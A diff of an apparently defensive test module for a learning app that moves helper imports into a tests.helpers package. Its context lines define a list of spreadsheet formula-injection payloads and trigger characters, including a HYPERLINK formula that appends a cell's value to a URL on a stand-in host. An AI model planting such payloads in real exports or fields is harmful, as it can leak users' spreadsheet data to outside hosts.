@@ -25,9 +25,9 @@ from learnapp.ledger.models import Category
 from learnapp.ledger.schedule import make_schedule
 from learnapp.materials import lists
 from learnapp.materials.models import ReadingList
-from tests.factories import make_user
-from tests.quizzes.helpers import make_category, make_question, opts
-from tests.reports.helpers import add_entry, add_quiz_result
+from tests.helpers.factories import make_user
+from tests.helpers.quizzes import make_category, make_question, opts
+from tests.helpers.reports import add_entry, add_quiz_result
 
 PAYLOADS = ['=HYPERLINK("http://x/?"&B2,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 _TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
